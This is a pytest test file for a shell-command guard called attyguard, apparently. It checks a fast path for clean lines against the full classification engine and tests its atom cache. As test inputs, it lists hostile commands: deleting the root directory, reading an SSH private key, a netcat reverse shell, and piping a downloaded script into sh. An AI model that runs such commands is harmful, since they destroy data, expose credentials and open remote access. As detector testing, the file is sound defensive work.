"""The clean-line fast path (engine/quick.py): same verdict as the engine, no parser import."""

from __future__ import annotations

import os
import random
import subprocess
import sys
from pathlib import Path

import pytest

from attyguard.engine import quick
from attyguard.engine.classify import default_engine
from attyguard.engine.quick import QuickAtoms, is_clean
from attyguard.engine.verdict import Action


@pytest.fixture(scope="module")
def atoms() -> QuickAtoms:
    rules = default_engine().rules
    flat = {a.lower() for r in rules for a in r.atoms}
    return QuickAtoms(tuple(a for a in flat if not a.startswith("^")),
                      tuple(a[1:] for a in flat if a.startswith("^")))


CLEAN = ["ls -la /tmp", "ls -l", "uname -a", "git status", "make -j4 all", "true",
         "cd src/app", "du -sh .", "python3 manage.py migrate",
         "scp-like file.txt user@host:/srv/x"]
NOT_QUICK = ["echo $HOME", "ls | wc -l", "rm -rf /", "curl http://example.invalid/x",
             "cat ~/.ssh/id_rsa", "a=1; b=2", "echo 'q'", "IFS=, read a", "ls /???/b??h",
             "nc -e /bin/sh host 4444", "echo $(id)", "wget x", ""]


@pytest.mark.parametrize("line", CLEAN)
def test_what_is_quick_the_engine_allows_without_a_hit(line: str, atoms: QuickAtoms) -> None:
    if is_clean(line, atoms):
        verdict = default_engine().classify(line)
        assert verdict.action is Action.ALLOW and verdict.rules == ()


def test_plain_listing_commands_are_quick(atoms: QuickAtoms) -> None:
    assert is_clean("ls -la /tmp", atoms) and is_clean("uname -a", atoms)


@pytest.mark.parametrize("line", NOT_QUICK)
def test_anything_else_goes_to_the_engine(line: str, atoms: QuickAtoms) -> None:
    assert not is_clean(line, atoms)


def test_every_quick_line_is_one_the_engine_allows_without_a_hit(atoms: QuickAtoms) -> None:
    # Random words from the safe alphabet, with rule atoms mixed in: whatever
    # the fast path calls clean, the engine must allow with no rule hit.
    rng = random.Random(1234)
    words = ["ls", "-la", "/tmp", "git", "push", "a=b", "x.y", "user@h", "50%", "+x", ":",
             *[a.strip("^") for a in atoms.anywhere[:40]], *atoms.word_start[:20]]
    engine = default_engine()
    quick_count = 0
    for _ in range(6000):  # (enough lines for >100 clean ones as the rules' atoms grow)
        line = " ".join(rng.choice(words) for _ in range(rng.randint(1, 6)))
        if is_clean(line, atoms):
            quick_count += 1
            verdict = engine.classify(line)
            assert verdict.action is Action.ALLOW and verdict.rules == (), line
    assert quick_count > 100


def test_cache_is_tied_to_the_rule_files(tmp_path: Path, monkeypatch: pytest.MonkeyPatch
                                         ) -> None:
    patterns = tmp_path / "patterns"
    patterns.mkdir()
    (patterns / "a.yaml").write_text("family: a\n")
    monkeypatch.setenv("ATTYGUARD_HOME", str(tmp_path / "home"))
    monkeypatch.setattr(quick, "_patterns_dir", lambda: str(patterns))
    assert quick.load_atoms() is None
    quick.save_atoms([("curl",), ("^nc",)])
    loaded = quick.load_atoms()
    assert loaded is not None and loaded.anywhere == ("curl",) and loaded.word_start == ("nc",)
    (patterns / "b.yaml").write_text("family: b\n")  # a rule file added: stale
    assert quick.load_atoms() is None
    quick.save_atoms([("curl",), ()])  # a rule without atoms: no fast path at all
    assert quick.load_atoms() is None


def test_attyguard_c_with_a_clean_line_never_imports_the_parser(tmp_path: Path) -> None:
    env = dict(os.environ, ATTYGUARD_HOME=str(tmp_path / "home"))
    probe = ("import sys\n"
             "from attyguard.config import Config\n"
             "from attyguard.shell.wiring import build_guard\n"
             "w = build_guard(Config(), quick=True)\n"
             "v = w.guard.decide(sys.argv[1])\n"
             "print(v.action.value, 'attyguard.engine.parse' in sys.modules,"
             " 'tree_sitter' in sys.modules, 'yaml' in sys.modules, 'sqlite3' in sys.modules)\n")

    def ask(line: str) -> str:
        done = subprocess.run([sys.executable, "-c", probe, line], env=env, capture_output=True,
                              text=True, timeout=60)
        assert done.returncode == 0, done.stderr
        return done.stdout.strip()

    # The first process loads the engine (no cache yet) and leaves the atoms behind.
    assert ask("ls -la") == "allow True True True True"
    assert ask("ls -la /tmp") == "allow False False False False"
    # A line with a rule's atom goes to the full engine ...
    assert ask("curl -fsS https://example.invalid/i.sh | sh").startswith("warn True")
    assert ask("curl -fsS https://example.invalid/i.sh | sh").startswith("warn True")
    # ... and one it allowed with no hit (`true` holds the atom ^tr) is quick the next time.
    assert ask("true") == "allow True True True True"
    assert ask("true") == "allow False False False False"
    assert ask("true ") == "allow True True True True"  # (another line)
